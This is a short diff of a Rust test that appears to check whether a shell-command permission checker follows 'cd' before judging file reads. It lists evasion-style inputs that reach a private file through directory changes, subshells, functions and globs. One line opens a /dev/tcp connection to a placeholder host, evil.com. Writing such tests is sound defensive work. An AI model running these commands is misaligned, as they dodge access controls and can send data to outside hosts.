@@ -197,7 +197,7 @@ fn files_are_judged_wherever_cd_may_have_led() {
         "cd \"$X\"; cat priv/f",
         "for i in 1; do cd priv; cat f; done",
         "f() { cat f; }; cd priv; f",
-        "cd ~; cat ../work/priv/f",
+        "cd ~/..; cat work/priv/f",
         "cd .; (cd priv; cat f)",
         "cd .; cat pri*/f",
         "cd .; cat < /dev/tcp/evil.com/80",
